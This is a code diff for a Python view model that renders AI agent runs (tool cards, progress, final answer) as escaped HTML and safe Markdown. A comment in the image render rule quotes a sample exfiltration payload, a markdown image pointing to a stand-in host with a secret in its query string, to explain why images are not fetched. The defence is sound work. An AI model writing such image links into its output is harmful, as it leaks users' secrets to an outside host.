@@ -1,6 +1,10 @@
 """A plain model of what a run looks like, built only from events. Panel and text view render it.
 
 No IPython or ipywidgets import: it is unit-testable and shared by both views.
+
+Safety: every piece of model or tool text reaches HTML either through :func:`html.escape` or through
+:func:`render_markdown` (markdown-it-py, CommonMark, raw HTML disabled, unsafe link schemes refused), so
+nothing a model or a tool writes is ever executed by a front end.
 """
 
 from __future__ import annotations
@@ -8,18 +12,21 @@ from __future__ import annotations
 import json
 import time
 from dataclasses import dataclass, field
+from functools import lru_cache
 from html import escape
 from typing import Any
 
 from . import events as ev
 
 MAX_TEXT = 4000  # characters of streamed text kept per iteration in the view
+MAX_ANSWER = 20000  # characters of the final answer rendered in the final view
 MAX_RESULT = 2000  # characters of a tool result kept in the view
 EXPANDED_ITERATIONS = 3  # the most recent iterations stay expanded
 MAX_ITERATIONS_SHOWN = 50  # older iterations are summarised in one line
 MAX_BATCH_ROWS = 200
 
 STATUS_LABELS = {
+    "waiting": "waiting",
     "running": "running",
     "completed": "completed",
     "max_iterations": "max iterations",
@@ -28,6 +35,7 @@ STATUS_LABELS = {
     "error": "error",
 }
 STATUS_COLORS = {
+    "waiting": "#8250df",
     "running": "#1f6feb",
     "completed": "#1a7f37",
     "max_iterations": "#9a6700",
@@ -35,6 +43,7 @@ STATUS_COLORS = {
     "cancelled": "#6e7781",
     "error": "#cf222e",
 }
+TOOL_ICONS = {"running": "⏳", "ok": "✓", "error": "✗", "cancelled": "⏹", "denied": "⛔"}
 
 
 def clip(text: str, limit: int) -> str:
@@ -43,20 +52,76 @@ def clip(text: str, limit: int) -> str:
     return text[:limit] + f"… [{len(text) - limit} more characters]"
 
 
+# ---------------------------------------------------------------------- Markdown
+@lru_cache(maxsize=1)
+def _markdown() -> Any:
+    from markdown_it import MarkdownIt
+
+    # CommonMark + GFM tables and strikethrough; html=False turns raw HTML into text; linkify off.
+    md = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False})
+    md.enable(["table", "strikethrough"])
+
+    def link_open(renderer: Any, tokens: Any, idx: int, options: Any, env: Any) -> str:
+        tokens[idx].attrSet("target", "_blank")
+        tokens[idx].attrSet("rel", "noopener noreferrer nofollow")
+        return renderer.renderToken(tokens, idx, options, env)
+
+    def image(renderer: Any, tokens: Any, idx: int, options: Any, env: Any) -> str:
+        # Images are not fetched: a model-written image URL is a classic exfiltration channel
+        # (``![](https://evil.example/?q=<secret>)``). Show a link the reader may follow instead.
+        token = tokens[idx]
+        src = escape(token.attrGet("src") or "")
+        alt = escape(renderer.renderInlineAsText(token.children or [], options, env) or "image")
+        return f'<a href="{src}" target="_blank" rel="noopener noreferrer nofollow">🖼 {alt}</a>'
+
+    md.add_render_rule("link_open", link_open)
+    md.add_render_rule("image", image)
+    return md
+
+
+@lru_cache(maxsize=256)
+def render_markdown(text: str) -> str:
+    """Markdown → safe HTML (raw HTML shown as text; ``javascript:``/``vbscript:``/``file:``/non-image
+    ``data:`` links refused by markdown-it's ``validateLink``). Cached: views re-render on every flush."""
+    return f'<div class="mm-md">{_markdown().render(text)}</div>'
+
+
+# ---------------------------------------------------------------------- state
 @dataclass
 class ToolCard:
     call_id: str
     name: str
     arguments: Any
-    state: str = "running"  # running → ok / error
+    state: str = "running"  # running → ok / error / cancelled / denied
     duration: float | None = None
     result: str | None = None
     error: str | None = None
+    progress_done: float | None = None
+    progress_total: float | None = None
+    progress_note: str = ""
 
     def arguments_json(self) -> str:
         if isinstance(self.arguments, str):
             return self.arguments
         return json.dumps(self.arguments, indent=2, ensure_ascii=False, default=str)
+
+    def progress_text(self) -> str:
+        if self.progress_done is None:
+            return ""
+        done = _num(self.progress_done)
+        text = f"{done}/{_num(self.progress_total)}" if self.progress_total else done
+        return f"{text} {self.progress_note}".strip()
+
+    def progress_fraction(self) -> float | None:
+        if self.progress_done is None or not self.progress_total:
+            return None
+        return max(0.0, min(1.0, self.progress_done / self.progress_total))
+
+
+def _num(x: float | None) -> str:
+    if x is None:
+        return "?"
+    return str(int(x)) if float(x).is_integer() else f"{x:.3g}"
 
 
 @dataclass
@@ -92,13 +157,18 @@ class RunViewModel:
         self.max_iterations = 0
         self.iterations: list[IterationView] = []
         self.dropped_iterations = 0
+        self.dropped_tool_calls = 0
         self.input_tokens: int | None = None
         self.output_tokens: int | None = None
+        self.requests = 0
+        self.unreported_requests = 0
         self.started = time.monotonic()
         self.finished_at: float | None = None
         self.final_output = ""
         self.error: str | None = None
         self.retries = 0
+        self.waiting_ahead: int | None = None  # earlier turns of the conversation still ahead of this run
+        self.waited: float | None = None
         self.batch: list[BatchRow] | None = None
         self.batch_mode = ""
         self.version = 0  # bumps on every change: views flush only when it moved
@@ -106,11 +176,26 @@ class RunViewModel:
     # ------------------------------------------------------------------ folding
     def apply(self, event: ev.Event) -> None:
         self.version += 1
-        if isinstance(event, ev.ModelResponseReceived) and event.usage is not None:
-            if event.usage.input_tokens is not None:
-                self.input_tokens = (self.input_tokens or 0) + event.usage.input_tokens
-            if event.usage.output_tokens is not None:
-                self.output_tokens = (self.output_tokens or 0) + event.usage.output_tokens
+        if isinstance(event, ev.ModelResponseReceived) and (self.run_id is None or self.batch is not None
+                                                            or event.run_id == self.run_id):
+            self.requests += 1
+            if event.usage is None or event.usage.total_tokens is None:
+                self.unreported_requests += 1
+            else:
+                if event.usage.input_tokens is not None:
+                    self.input_tokens = (self.input_tokens or 0) + event.usage.input_tokens
+                if event.usage.output_tokens is not None:
+                    self.output_tokens = (self.output_tokens or 0) + event.usage.output_tokens
+        if isinstance(event, (ev.TurnWaiting, ev.TurnResumed)) and self.run_id in (None, event.run_id):
+            if isinstance(event, ev.TurnWaiting):
+                self.waiting_ahead = event.ahead
+                if self.finished_at is None:
+                    self.status = "waiting"
+            else:
+                self.waiting_ahead, self.waited = None, event.waited
+                if self.status == "waiting":
+                    self.status = "running"
+            return
         if isinstance(event, ev.BatchStarted) and self.run_id is None:
             self.run_id = event.run_id
             self.batch_mode = event.mode
@@ -141,10 +226,13 @@ class RunViewModel:
             return
         if isinstance(event, ev.IterationStarted):
             self.max_iterations = event.max_iterations
+            if self.status == "waiting":
+                self.status, self.waiting_ahead = "running", None
             self.iterations.append(IterationView(event.iteration))
             if len(self.iterations) > MAX_ITERATIONS_SHOWN:
-                self.iterations.pop(0)
+                dropped = self.iterations.pop(0)
                 self.dropped_iterations += 1
+                self.dropped_tool_calls += len(dropped.tools)
         elif isinstance(event, ev.TextDelta):
             it = self._iteration()
             if it is not None:
@@ -159,11 +247,15 @@ class RunViewModel:
             it = self._iteration()
             if it is not None:
                 it.tools[event.call_id] = ToolCard(event.call_id, event.name, event.arguments)
+        elif isinstance(event, ev.ToolProgress):
+            card = self._card(event.call_id)
+            if card is not None and card.state == "running":
+                card.progress_done, card.progress_total = event.done, event.total
+                card.progress_note = clip(event.note or "", 200)
         elif isinstance(event, ev.ToolCallFinished):
-            it = self._iteration()
-            card = it.tools.get(event.call_id) if it is not None else None
+            card = self._card(event.call_id)
             if card is not None:
-                card.state = "ok" if event.ok else "error"
+                card.state = event.status or ("ok" if event.ok else "error")
                 card.duration = event.duration
                 card.result = clip(event.result, MAX_RESULT) if event.result is not None else None
                 card.error = clip(event.error, MAX_RESULT) if event.error is not None else None
@@ -207,9 +299,16 @@ class RunViewModel:
         self.status = status
         self.final_output = output
         self.error = error
+        self.waiting_ahead = None
         self.finished_at = time.monotonic()
         for it in self.iterations:
             it.finished = True
+            for card in it.tools.values():
+                if card.state == "running":
+                    card.state = "cancelled"
+        for row in self.batch or ():
+            if row.status in ("pending", "running") and status != "completed":
+                row.status = "cancelled"
 
     def mark_cancelled(self) -> None:
         """Used when a run ends without a RunFinished event reaching the view."""
@@ -220,7 +319,18 @@ class RunViewModel:
     def _iteration(self) -> IterationView | None:
         return self.iterations[-1] if self.iterations else None
 
+    def _card(self, call_id: str) -> ToolCard | None:
+        for it in reversed(self.iterations):
+            card = it.tools.get(call_id)
+            if card is not None:
+                return card
+        return None
+
     # ------------------------------------------------------------------ derived
+    @property
+    def finished(self) -> bool:
+        return self.finished_at is not None
+
     @property
     def elapsed(self) -> float:
         return (self.finished_at or time.monotonic()) - self.started
@@ -233,7 +343,7 @@ class RunViewModel:
 
     @property
     def tool_call_count(self) -> int:
-        return sum(len(it.tools) for it in self.iterations)
+        return sum(len(it.tools) for it in self.iterations) + self.dropped_tool_calls
 
     @property
     def iteration_count(self) -> int:
@@ -248,25 +358,61 @@ class RunViewModel:
             "pending": sum(r.status == "pending" for r in rows),
         }
 
-    def summary_text(self) -> str:
+    def usage_text(self) -> str:
+        if self.tokens is None:
+            return "tokens unknown"
+        text = f"{self.tokens} tokens ({self.input_tokens or 0} in, {self.output_tokens or 0} out)"
+        if self.unreported_requests:
+            text += f", {self.unreported_requests} request(s) unreported"
+        return text
+
+    def progress(self) -> tuple[int, int, str]:
+        """(done, total, label) of the progress bar. Complete when the run completed."""
+        if self.batch is not None:
+            total = max(len(self.batch), 1)
+            done = sum(r.status not in ("pending", "running") for r in self.batch)
+            label = f"{done} / {len(self.batch)} items"
+            if self.finished:
+                label = f"{STATUS_LABELS.get(self.status, self.status)} · {label}"
+            return min(done, total), total, label
+        total, done = max(self.max_iterations, 1), self.iteration_count
+        if self.status == "waiting":
+            return 0, total, self.waiting_text()
+        if self.finished:
+            label = f"{STATUS_LABELS.get(self.status, self.status)} · {self.iteration_count} iteration(s)"
+            if self.status == "completed":
+                return total, total, label  # the bar is full: the run needed no more iterations
+            return min(done, total), total, label + f" of {self.max_iterations}"
+        return min(done, total), total, f"iteration {done} / {self.max_iterations}"
+
+    def waiting_text(self) -> str:
+        n = self.waiting_ahead or 0
+        return f"waiting for {n} earlier turn{'s' if n != 1 else ''} of this conversation"
+
+    def summary_line(self) -> str:
+        """The first, stable line of the text/plain form (durations are sanitised by nbval's config)."""
+        status = STATUS_LABELS.get(self.status, self.status)
         tokens = "tokens unknown" if self.tokens is None else f"{self.tokens} tokens"
         if self.batch is not None:
             c = self.batch_counts()
             what = "workflow of" if self.batch_mode == "workflow" else "batch of"
-            head = (f"[{self.title}] {STATUS_LABELS.get(self.status, self.status)} · {what} {len(self.batch)}: "
+            return (f"[{self.title}] {status} · {what} {len(self.batch)}: "
                     f"{c['done']} done, {c['failed']} failed · {self.elapsed:.1f}s · {tokens}")
-            lines = [head]
+        return (f"[{self.title}] {status} · {self.iteration_count} iteration(s)"
+                f" · {self.tool_call_count} tool call(s) · {self.elapsed:.1f}s · {tokens}")
+
+    def summary_text(self) -> str:
+        """Summary line, then the error and the answer (batches: one line per item)."""
+        lines = [self.summary_line()]
+        if self.batch is not None:
             for row in self.batch:
                 body = row.answer if row.status == "ok" else (row.error or row.status)
                 lines.append(f"  {row.index + 1}. {clip(row.message, 60)} → {clip(body or '', 200)}")
             return "\n".join(lines)
-        head = (f"[{self.title}] {STATUS_LABELS.get(self.status, self.status)} · {self.iteration_count} iteration(s)"
-                f" · {self.tool_call_count} tool call(s) · {self.elapsed:.1f}s · {tokens}")
-        lines = [head]
         if self.error:
             lines.append(f"error: {self.error}")
         if self.final_output:
-            lines.append(clip(self.final_output, MAX_TEXT))
+            lines.append(clip(self.final_output, MAX_ANSWER))
         return "\n".join(lines)
 
     # ------------------------------------------------------------------ HTML (always escaped)
@@ -278,46 +424,70 @@ class RunViewModel:
 
     def header_html(self) -> str:
         tokens = "–" if self.tokens is None else str(self.tokens)
+        meta = " · ".join(escape(x) for x in (self.model, self.mode) if x)
         parts = [
             f"<b>{escape(self.title)}</b>",
             self.badge_html(),
-            f'<span class="mm-meta">{escape(self.model)} · {escape(self.mode)}</span>',
+            f'<span class="mm-meta" style="color:#57606a">{meta}</span>',
             f'<span class="mm-elapsed">{self.elapsed:.1f}s</span>',
             f'<span class="mm-tokens">tokens: {escape(tokens)}</span>',
         ]
         if self.retries:
             parts.append(f'<span class="mm-retries">retries: {self.retries}</span>')
-        return '<div class="mm-header" style="display:flex;gap:10px;align-items:center">' + "".join(parts) + "</div>"
+        return ('<div class="mm-header" style="display:flex;gap:10px;align-items:center;flex-wrap:wrap">'
+                + "".join(parts) + "</div>")
 
-    def body_html(self) -> str:
+    def body_blocks(self) -> list[tuple[str, str]]:
+        """The live body as keyed blocks: a view replaces only the blocks whose HTML changed."""
         if self.batch is not None:
-            return self._batch_html()
-        out = [f'<div class="mm-task" style="color:#57606a">{escape(clip(self.task, 300))}</div>']
+            return [("batch", self._batch_html())]
+        blocks = [("task", f'<div class="mm-task" style="color:#57606a">{escape(clip(self.task, 300))}</div>')]
+        if self.status == "waiting":
+            blocks.append(("waiting", f'<div class="mm-waiting" style="color:#8250df">⏸ '
+                                      f"{escape(self.waiting_text())}</div>"))
         if self.dropped_iterations:
-            out.append(f"<div>… {self.dropped_iterations} earlier iteration(s) not shown</div>")
+            blocks.append(("dropped", f"<div>… {self.dropped_iterations} earlier iteration(s) not shown</div>"))
         recent = {it.number for it in self.iterations[-EXPANDED_ITERATIONS:]}
         for it in self.iterations:
-            open_attr = " open" if (it.number in recent or not it.finished) else ""
-            state = f"{it.duration:.2f}s" if it.duration is not None else "running…"
-            summary = f"iteration {it.number} · {len(it.tools)} tool call(s) · {state}"
-            inner = []
-            if it.text:
-                inner.append(f'<div class="mm-text" style="white-space:pre-wrap">{escape(it.text)}</div>')
-            for card in it.tools.values():
-                inner.append(self._card_html(card))
-            out.append(f'<details class="mm-iteration"{open_attr}><summary>{escape(summary)}</summary>'
-                       + "".join(inner) + "</details>")
+            blocks.append((f"it-{it.number}", self._iteration_html(it, it.number in recent or not it.finished)))
         if self.error:
-            out.append(f'<div class="mm-error" style="color:#cf222e">{escape(self.error)}</div>')
-        return "".join(out)
+            blocks.append(("error", self._error_html()))
+        return blocks
+
+    def body_html(self) -> str:
+        return "".join(html for _key, html in self.body_blocks())
+
+    def _error_html(self) -> str:
+        return f'<div class="mm-error" style="color:#cf222e">{escape(self.error or "")}</div>'
+
+    def _iteration_html(self, it: IterationView, expanded: bool, skip_text: bool = False) -> str:
+        state = f"{it.duration:.2f}s" if it.duration is not None else ("running…" if not self.finished else "")
+        summary = " · ".join(x for x in (f"iteration {it.number}", f"{len(it.tools)} tool call(s)", state) if x)
+        inner = []
+        if it.text and not skip_text:
+            inner.append(f'<div class="mm-text">{render_markdown(it.text)}</div>')
+        for card in it.tools.values():
+            inner.append(self._card_html(card))
+        return (f'<details class="mm-iteration"{" open" if expanded else ""}><summary>{escape(summary)}</summary>'
+                + "".join(inner) + "</details>")
 
     @staticmethod
     def _card_html(card: ToolCard) -> str:
-        icon = {"running": "⏳", "ok": "✓", "error": "✗"}.get(card.state, "")
+        icon = TOOL_ICONS.get(card.state, "")
         dur = f" · {card.duration:.2f}s" if card.duration is not None else ""
-        head = f"{icon} {escape(card.name)} · {escape(card.state)}{dur}"
-        body = f'<pre class="mm-args" style="margin:2px 0">{escape(card.arguments_json())}</pre>'
-        shown = card.error if card.state == "error" else card.result
+        head = f"{icon} <b>{escape(card.name)}</b> · {escape(card.state)}{dur}"
+        body = ""
+        if card.state == "running" and card.progress_done is not None:
+            frac = card.progress_fraction()
+            bar = ""
+            if frac is not None:
+                bar = ('<span class="mm-tool-bar" style="display:inline-block;width:120px;height:8px;'
+                       'background:#eaeef2;border-radius:4px;vertical-align:middle;margin-right:6px">'
+                       f'<span style="display:block;height:8px;width:{frac * 100:.0f}%;background:#1f6feb;'
+                       'border-radius:4px"></span></span>')
+            body += f'<div class="mm-tool-progress">{bar}{escape(card.progress_text())}</div>'
+        body += f'<pre class="mm-args" style="margin:2px 0;white-space:pre-wrap">{escape(card.arguments_json())}</pre>'
+        shown = card.result if card.state == "ok" else (card.error or card.result)
         if shown is not None:
             short = clip(shown, 200)
             if short == shown:
@@ -346,11 +516,48 @@ class RunViewModel:
         return (counts + '<table class="mm-batch"><tr><th>#</th><th>message</th><th>status</th><th>time</th>'
                 "<th>answer / error</th></tr>" + "".join(rows) + "</table>")
 
+    def progress_html(self, with_bar: bool = True) -> str:
+        done, total, label = self.progress()
+        color = STATUS_COLORS.get(self.status, "#1f6feb") if self.finished else "#1f6feb"
+        bar = ""
+        if with_bar:
+            bar = ('<div class="mm-progress" style="display:inline-block;width:240px;height:10px;background:#eaeef2;'
+                   'border-radius:5px;vertical-align:middle;margin-right:8px">'
+                   f'<div class="mm-progress-fill" style="height:10px;width:{100 * done / max(total, 1):.0f}%;'
+                   f'background:{color};border-radius:5px"></div></div>')
+        return f'<div class="mm-progress-row">{bar}<span class="mm-progress-label">{escape(label)}</span></div>'
+
+    def final_html(self) -> str:
+        """The final view: status, progress, steps (collapsed), usage, and the answer once (Markdown)."""
+        out = [f'<div class="mm-panel mm-final mm-final-{escape(self.status)}" style="border:1px solid #d0d7de;'
+               f'border-radius:8px;padding:8px 12px">', self.header_html(), self.progress_html()]
+        if self.batch is not None:
+            out.append(self._batch_html())
+        else:
+            out.append(f'<div class="mm-task" style="color:#57606a">{escape(clip(self.task, 300))}</div>')
+            steps = []
+            if self.dropped_iterations:
+                steps.append(f"<div>… {self.dropped_iterations} earlier iteration(s) not shown</div>")
+            answer = self.final_output.strip()
+            for it in self.iterations:
+                # The answer is shown once, below: not again inside the step that produced it.
+                steps.append(self._iteration_html(it, False, skip_text=bool(answer) and it.text.strip() == answer))
+            if steps:
+                summary = (f"{self.iteration_count} iteration(s) · {self.tool_call_count} tool call(s) · "
+                           f"{self.usage_text()}")
+                out.append(f'<details class="mm-steps"><summary>{escape(summary)}</summary>{"".join(steps)}'
+                           "</details>")
+            else:
+                out.append(f'<div class="mm-usage">{escape(self.usage_text())}</div>')
+        if self.error:
+            out.append(self._error_html())
+        elif self.status == "cancelled":
+            out.append('<div class="mm-cancelled" style="color:#6e7781">⏹ the run was cancelled</div>')
+        if self.final_output:
+            out.append(f'<div class="mm-answer">{render_markdown(clip(self.final_output, MAX_ANSWER))}</div>')
+        out.append("</div>")
+        return "".join(out)
+
     def record_html(self) -> str:
-        """The static record kept in saved notebooks."""
-        return (f'<div class="mm-record">{self.header_html()}'
-                f'<div>{self.iteration_count} iteration(s) · {self.tool_call_count} tool call(s)</div>'
-                + (f'<div style="white-space:pre-wrap">{escape(self.final_output)}</div>' if self.final_output else "")
-                + (self._batch_html() if self.batch is not None else "")
-                + (f'<div style="color:#cf222e">{escape(self.error)}</div>' if self.error else "")
-                + "</div>")
+        """Kept for callers of the old API: the final view."""
+        return self.final_html()
